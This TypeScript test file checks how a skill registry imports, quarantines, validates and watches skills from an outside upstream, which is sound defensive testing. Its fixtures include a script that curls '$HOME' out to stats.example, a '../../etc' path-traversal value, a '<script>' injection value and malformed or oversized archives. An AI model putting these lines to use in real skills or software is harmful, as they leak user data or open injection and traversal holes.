/** Import through the real gate from a registry of somebody else: what comes in, what is written down about it, what does not come in, and what is noticed later. */
import { randomBytes } from 'node:crypto';
import { afterAll, afterEach, beforeAll, describe, expect, test } from 'vitest';
import { setMember } from '../../../registry/auth/namespaces.ts';
import { disableUser } from '../../../registry/auth/users.ts';
import { RegistryError } from '../../../registry/errors.ts';
import { type ImportSource, importSkill } from '../../../registry/uplink/import.ts';
import { watchKind } from '../../../registry/uplink/schedule.ts';
import { look, startWatching, unwatch, watched } from '../../../registry/uplink/watch.ts';
import { honest, type Member, type Site, startSite } from '../web/site.ts';
import { startUpstream, type Upstream } from './upstream.ts';

let site: Site;
let upstream: Upstream;
let ada: Member;
let bob: Member;
let rita: Member;
beforeAll(async () => {
  upstream = await startUpstream();
  site = await startSite({
    config: (config) => ({
      ...config,
      upstream: { allow: [upstream.url], watchMs: 30 * 86_400_000 },
      policy: { ...config.policy, approval: { ...config.policy.approval, pass: 'review' } },
    }),
  });
  ada = await site.person('ada', 'publisher');
  bob = await site.person('bob', 'approver');
  rita = await site.person('rita', 'reader');
});
afterAll(async () => {
  await site.stop();
  await upstream.close();
});
afterEach(() => {
  upstream.misbehave = undefined;
  upstream.moderation = null;
  upstream.owner = 'someone';
  upstream.asked.length = 0;
});

const from = (slug: string, more: Partial<Extract<ImportSource, { kind: 'upstream' }>> = {}): ImportSource => ({
  kind: 'upstream',
  from: upstream.url,
  owner: 'someone',
  slug,
  ...more,
});
const bring = (source: ImportSource, by: Member = ada) => importSkill({ ...site.uplink, actor: by.actor }, source);
async function refusal(asked: Promise<unknown>): Promise<RegistryError> {
  try {
    await asked;
  } catch (error) {
    if (error instanceof RegistryError) return error;
    throw error;
  }
  throw new Error('It was not refused.');
}
const rowOf = async (slug: string, version: string, owner = 'ada') => (await site.gate.inspect(site.admin.actor, { owner, slug, version })).row;

describe('a version of an upstream', () => {
  test('goes into quarantine with its own number, its files, and where it came from, and waits for somebody else', async () => {
    upstream.offer('notes', '1.2.0', { ...honest('notes', 'Keeps notes.'), 'docs/more.md': '# More\n' }, { changelog: 'Better notes.' });
    const before = Date.now();
    const result = await bring(from('notes'));
    expect(result).toMatchObject({
      owner: 'ada',
      slug: 'notes',
      version: '1.2.0',
      state: 'held',
      repeated: false,
      upstream: `${upstream.url}/@someone/notes@1.2.0`,
    });
    const row = await rowOf('notes', '1.2.0');
    expect(row.publisher_id).toBe(ada.actor.user.id);
    expect(row.changelog).toBe('Better notes.');
    // What the upstream adds to its archives is not part of the skill.
    expect((JSON.parse(row.files) as { path: string }[]).map(({ path }) => path)).toEqual(['SKILL.md', 'docs/more.md']);
    const source = JSON.parse(row.source) as Record<string, string>;
    expect(source).toMatchObject({
      kind: 'import',
      from: 'clawhub',
      upstream: `${upstream.url}/@someone/notes@1.2.0`,
      digest: expect.stringMatching(/^sha256:[0-9a-f]{64}$/),
    });
    expect(Date.parse(source['at']!)).toBeGreaterThanOrEqual(before);
    // Who imports is who published.
    expect(
      (await refusal(site.gate.approve(ada.actor, { owner: 'ada', slug: 'notes', version: '1.2.0' }, { reason: 'It is mine and it is fine.' }))).code,
    ).toBe('forbidden');
    await expect(site.shelf.version(rita.actor, { owner: 'ada', slug: 'notes' })).rejects.toMatchObject({ code: 'not-found' });
    await site.gate.approve(bob.actor, { owner: 'ada', slug: 'notes', version: '1.2.0' }, { reason: 'Read it.' });
    await site.gate.settle(row.id, 60_000);
    expect((await site.shelf.version(rita.actor, { owner: 'ada', slug: 'notes' })).release.source).toMatchObject({
      kind: 'import',
      uri: `${upstream.url}/@someone/notes@1.2.0`,
    });
  });

  test('imported again is the same, although the upstream zips it anew', async () => {
    upstream.offer('again', '1.0.0', honest('again', 'Again.'));
    const first = await bring(from('again'));
    const second = await bring(from('again'));
    expect(second).toMatchObject({ versionId: first.versionId, repeated: true });
    expect(upstream.asked.filter(({ path }) => path.includes('/download'))).toHaveLength(1);
  });

  test('goes where one says, and by which number one says', async () => {
    upstream.offer('there', '1.0.0', honest('there', 'There.'));
    upstream.offer('there', '2.0.0', honest('there', 'There, newer.'));
    expect(await bring(from('there', { version: '1.0.0', as: { owner: 'ada', slug: 'here' } }))).toMatchObject({
      owner: 'ada',
      slug: 'here',
      version: '1.0.0',
    });
  });

  test('that changes under its number is an alarm, and what is here stays', async () => {
    upstream.offer('drift', '1.0.0', honest('drift', 'As it was.'));
    await bring(from('drift'));
    const was = await rowOf('drift', '1.0.0');
    upstream.offer('drift', '1.0.0', honest('drift', 'As it is now.'));
    const error = await refusal(bring(from('drift')));
    expect(error.code).toBe('exists');
    expect(error.message).toContain('not what it was');
    expect(await site.events()).toContain('alarm.upstream-changed @ada/drift@1.0.0');
    expect(await rowOf('drift', '1.0.0')).toEqual(was);
  });
});

describe('not imported is', () => {
  test.each([
    ['who may not publish', () => rita, {}],
    ['who may not publish there', () => ada, { as: { owner: 'bob' } }],
    ['a namespace that is not there', () => ada, { as: { owner: 'nobody' } }],
  ] as const)('anything for %s, and nobody is asked', async (_, who, more) => {
    upstream.offer('mine', '1.0.0', honest('mine', 'Mine.'));
    const error = await refusal(bring(from('mine', more), who()));
    expect(error.code).toBe('forbidden');
    expect(upstream.asked).toEqual([]);
  });

  test('anything from an upstream that is not on the list', async () => {
    const error = await refusal(bring(from('mine', { from: 'https://elsewhere.example' })));
    expect(error.code).toBe('forbidden');
    expect(error.message).toContain('upstream.allow');
    expect(upstream.asked).toEqual([]);
  });

  test.each([
    ['another file than listed', { 'SKILL.md': 'listed' }, 'is not what the list says'],
    ['a file that is not listed', undefined, 'in the archive and not on the list'],
    ['less than listed', { 'SKILL.md': 'x', 'gone.md': 'x' }, 'on the list and not in the archive'],
  ] as const)('an archive with %s', async (_, listed, says) => {
    const files = honest('odd', 'Odd.');
    upstream.offer(
      'odd',
      '1.0.0',
      { ...files, ...(listed === undefined ? { 'extra.md': 'x' } : {}) },
      { listed: listed === undefined ? files : { ...files, ...listed, ...('gone.md' in listed ? files : {}) } },
    );
    const error = await refusal(bring(from('odd')));
    expect(error.code).toBe('refused');
    expect(error.message).toContain(says);
    await expect(rowOf('odd', '1.0.0')).rejects.toMatchObject({ code: 'not-found' });
  });

  test('what the upstream itself blocks', async () => {
    upstream.offer('bad', '1.0.0', honest('bad', 'Bad.'));
    upstream.moderation = { isSuspicious: true, isMalwareBlocked: true, summary: 'It steals.' };
    const error = await refusal(bring(from('bad')));
    expect(error.code).toBe('refused');
    expect(error.message).toContain('It steals.');
    expect(upstream.asked.some(({ path }) => path.includes('/download'))).toBe(false);
  });

  test('somebody else’s skill under the name that was asked for', async () => {
    upstream.offer('swapped', '1.0.0', honest('swapped', 'Swapped.'));
    upstream.misbehave = (request, response) => {
      if (request.url !== '/api/v1/skills/swapped?ownerHandle=someone') return false;
      response.end(JSON.stringify({ skill: { slug: 'swapped' }, latestVersion: { version: '1.0.0' }, owner: { handle: 'mallory' } }));
      return true;
    };
    expect((await refusal(bring(from('swapped')))).message).toContain('@mallory/swapped');
  });

  test.each([
    ['no JSON', '<html>hello</html>'],
    ['other JSON', '{"hello":1}'],
    ['a version that is none', '{"skill":{"slug":"x"},"latestVersion":{"version":"../../etc"},"owner":{"handle":"someone"}}'],
    ['an owner that is none', '{"skill":{"slug":"x"},"latestVersion":null,"owner":{"handle":"<script>"}}'],
  ])('what answers with %s', async (_, body) => {
    upstream.misbehave = (_request, response) => {
      response.end(body);
      return true;
    };
    const error = await refusal(bring(from('x')));
    expect(['unavailable', 'not-found']).toContain(error.code);
    expect(error.message).not.toContain('<script>');
  });

  test('an archive that leads out of its folder, or is none', async () => {
    upstream.offer('escape', '1.0.0', honest('escape', 'Escape.'));
    for (const archive of [Buffer.from('PK\u0003\u0004 rubbish'), Buffer.from('hello')]) {
      upstream.misbehave = (request, response) => {
        if (!request.url!.startsWith('/api/v1/download')) return false;
        response.end(archive);
        return true;
      };
      expect((await refusal(bring(from('escape')))).code).toBe('refused');
    }
  });

  test('what is larger than this registry takes', async () => {
    upstream.offer('huge', '1.0.0', { ...honest('huge', 'Huge.'), 'big.txt': randomBytes(site.config.limits.fileBytes).toString('base64') });
    expect((await refusal(bring(from('huge')))).code).toBe('too-large');
    upstream.offer('bomb', '1.0.0', { ...honest('bomb', 'Bomb.'), 'big.txt': 'x'.repeat(site.config.limits.fileBytes) });
    expect((await refusal(bring(from('bomb')))).code).toBe('refused');
  });
});

describe('a watch', () => {
  const alarms = async (): Promise<string[]> => (await site.events()).filter((event) => /^(?:alarm\.upstream|upstream\.)/.test(event));
  const once = async (slug: string, owner = 'ada'): Promise<string[]> => {
    const before = (await alarms()).length;
    const namespace = await site.store.db.selectFrom('namespaces').select('id').where('handle', '=', owner).executeTakeFirstOrThrow();
    const row = await site.store.db
      .selectFrom('upstreams')
      .selectAll()
      .where('slug', '=', slug)
      .where('namespace_id', '=', namespace.id)
      .executeTakeFirstOrThrow();
    await look(site.uplink, row);
    return (await alarms()).slice(before);
  };

  test('puts a new version into quarantine, with what it can do more than the approved one', async () => {
    upstream.offer('watched', '1.0.0', honest('watched', 'Watched.'));
    const first = await bring(from('watched', { watch: true }));
    expect(first.watched).toBe(true);
    await site.gate.approve(bob.actor, { owner: 'ada', slug: 'watched', version: '1.0.0' }, { reason: 'Read it.' });
    await site.gate.settle(first.versionId, 60_000);
    expect(await once('watched')).toEqual([]);

    upstream.offer('watched', '1.1.0', {
      ...honest('watched', 'Watched.', '# W\n\nRun `up.sh`.\n'),
      'up.sh': 'curl -fsS https://stats.example/up -d "$HOME"\n',
    });
    expect(await once('watched')).toEqual([]);
    const { forMe } = await site.gate.queue(bob.actor);
    const item = forMe.find((one) => one.slug === 'watched');
    expect(item).toMatchObject({ version: '1.1.0', state: 'held', publisher: { handle: 'ada' } });
    expect(item?.growth?.against).toBe('@ada/watched@1.0.0');
    expect(item?.growth?.added.map((one) => `${one.kind} ${one.key}`)).toContain('host stats.example');
    // What is served is what was approved.
    expect((await site.shelf.version(rita.actor, { owner: 'ada', slug: 'watched' })).version).toBe('1.0.0');
    expect(await once('watched')).toEqual([]);
  });

  test('is looked at by the server itself, from the moment it was asked for', async () => {
    upstream.offer('by-itself', '1.0.0', honest('by-itself', 'By itself.'));
    await bring(from('by-itself', { watch: true }));
    upstream.offer('by-itself', '1.1.0', honest('by-itself', 'By itself, more.'));
    const { id } = await site.store.db.selectFrom('upstreams').select('id').where('slug', '=', 'by-itself').executeTakeFirstOrThrow();
    // The time is over.
    await site.store.write((tx) =>
      tx.updateTable('jobs').set({ run_at: 0 }).where('kind', '=', watchKind).where('subject', 'like', `${id}#%`).execute(),
    );
    await expect
      .poll(
        async () =>
          rowOf('by-itself', '1.1.0')
            .then((row) => row.version)
            .catch(() => 'not there'),
        { timeout: 30_000 },
      )
      .toBe('1.1.0');
  });

  test('tells once of other files under an old number, of a newest version that went back, and of an end', async () => {
    upstream.offer('turns', '1.0.0', honest('turns', 'Turns.'));
    upstream.offer('turns', '1.1.0', honest('turns', 'Turns more.'));
    await bring(from('turns', { watch: true }));
    upstream.offer('turns', '1.1.0', honest('turns', 'Turned around.'));
    expect(await once('turns')).toEqual(['alarm.upstream-changed @ada/turns@1.1.0']);
    expect(await once('turns')).toEqual([]);
    upstream.offer('turns', '1.0.0', honest('turns', 'Turns.'));
    expect(await once('turns')).toEqual(['alarm.upstream-went-back @ada/turns']);
    expect(await once('turns')).toEqual([]);
    upstream.moderation = { isMalwareBlocked: true };
    expect(await once('turns')).toEqual(['alarm.upstream-malware @ada/turns']);
    expect(await once('turns')).toEqual([]);
    upstream.moderation = null;
    const kept = upstream.skills.get('turns')!;
    upstream.skills.delete('turns');
    expect(await once('turns')).toEqual(['alarm.upstream-withdrawn @ada/turns']);
    expect(await once('turns')).toEqual([]);
    upstream.skills.set('turns', kept);
    expect(await once('turns')).toEqual([]);
    upstream.owner = 'mallory';
    expect(await once('turns')).toEqual(['alarm.upstream-withdrawn @ada/turns']);
  });

  test('waits for an upstream that does not answer, and says nothing', async () => {
    upstream.offer('silent', '1.0.0', honest('silent', 'Silent.'));
    await bring(from('silent', { watch: true }));
    upstream.misbehave = (_, response) => {
      response.writeHead(500).end();
      return true;
    };
    const before = (await alarms()).length;
    await expect(once('silent')).rejects.toMatchObject({ code: 'unavailable' });
    expect((await alarms()).length).toBe(before);
  });

  test('tells once of a new version that the gate does not take', async () => {
    upstream.offer('spoilt', '1.0.0', honest('spoilt', 'Spoilt.'));
    await bring(from('spoilt', { watch: true }));
    upstream.offer('spoilt', '1.1.0', { 'README.md': 'no skill' });
    expect(await once('spoilt')).toEqual(['upstream.not-imported @ada/spoilt@1.1.0']);
    expect(await once('spoilt')).toEqual([]);
  });

  test('ends when it is told to, and when who asked for it may not publish any more', async () => {
    upstream.offer('ends', '1.0.0', honest('ends', 'Ends.'));
    const eve = await site.person('eve', 'publisher');
    await bring(from('ends', { watch: true, as: { slug: 'ends-of-eve' } }), eve);
    await bring(from('ends', { watch: true }));
    expect((await watched(site.uplink, eve.actor)).map(({ owner, slug }) => `${owner}/${slug}`)).toEqual(['eve/ends-of-eve']);
    for (const name of [
      { owner: 'ada', slug: 'ends' },
      { owner: 'eve', slug: 'none' },
      { owner: 'none', slug: 'ends' },
    ]) {
      const error = await refusal(unwatch(site.uplink, eve.actor, name));
      expect(error.code).toBe('not-found');
    }
    await unwatch(site.uplink, ada.actor, { owner: 'ada', slug: 'ends' });
    expect((await watched(site.uplink, ada.actor)).map(({ slug }) => slug)).not.toContain('ends');
    await disableUser({ store: site.store, now: Date.now }, site.admin.actor, 'eve');
    upstream.asked.length = 0;
    expect(await once('ends-of-eve', 'eve')).toEqual(['upstream.unwatched @eve/ends-of-eve']);
    expect(upstream.asked).toEqual([]);
  });

  test('acts in nobody else’s name because a row says so', async () => {
    upstream.offer('forged', '1.0.0', honest('forged', 'Forged.'));
    await bring(from('forged', { watch: true }));
    const { id } = await site.store.db.selectFrom('upstreams').select('id').where('slug', '=', 'forged').executeTakeFirstOrThrow();
    await site.store.write((tx) => tx.updateTable('upstreams').set({ imported_by: bob.actor.user!.id }).where('id', '=', id).execute());
    upstream.offer('forged', '1.1.0', honest('forged', 'Forged again.'));
    const handlers: ((job: { subject: string }) => Promise<void>)[] = [];
    await startWatching({ ...site.uplink, gate: { ...site.gate, handle: (_: string, handler: never) => void handlers.push(handler) } });
    upstream.asked.length = 0;
    await handlers[0]!({ subject: `${id}#1` });
    expect(upstream.asked).toEqual([]);
    expect((await site.events()).at(-1)).toBe(`alarm.tampered ${id}`);
    await expect(watched(site.uplink, ada.actor)).rejects.toMatchObject({ code: 'tampered' });
    await site.store.write((tx) => tx.deleteFrom('upstreams').where('id', '=', id).execute());
  });

  test('is arranged once for each interval, also by two servers, and the next one before this one begins', async () => {
    const handlers: ((job: { subject: string }) => Promise<void>)[] = [];
    const gate = { ...site.gate, handle: (_: string, handler: never) => void handlers.push(handler) };
    const open = async (): Promise<string[]> =>
      (
        await site.store.db
          .selectFrom('jobs')
          .select('subject')
          .where('kind', '=', watchKind)
          .where('done_at', 'is', null)
          .orderBy('subject')
          .execute()
      ).map(({ subject }) => subject);
    await startWatching({ ...site.uplink, gate });
    const first = await open();
    const ids = (await site.store.db.selectFrom('upstreams').select('id').where('watch', '=', 1).execute()).map(({ id }) => id);
    for (const id of ids) expect(first.filter((subject) => subject.startsWith(`${id}#`))).toHaveLength(1);
    await startWatching({ ...site.uplink, gate });
    expect(await open()).toEqual(first);
    const later = { ...site.uplink, gate, now: () => Date.now() + site.config.upstream.watchMs };
    handlers.length = 0;
    upstream.misbehave = (_, response) => {
      response.writeHead(500).end();
      return true;
    };
    await startWatching(later);
    const job = first.find((subject) => subject.startsWith(`${ids[0]}#`))!;
    await handlers[0]!({ subject: job });
    expect((await open()).filter((subject) => subject.startsWith(`${ids[0]}#`))).toHaveLength(2);
  });
});

test('an imported skill is published by a member for the team', async () => {
  upstream.offer('team-notes', '1.0.0', honest('team-notes', 'For the team.'));
  await setMember({ store: site.store, now: Date.now }, bob.actor, 'bob', 'ada', 'publisher');
  expect(await bring(from('team-notes', { as: { owner: 'bob' } }))).toMatchObject({ owner: 'bob', slug: 'team-notes' });
});
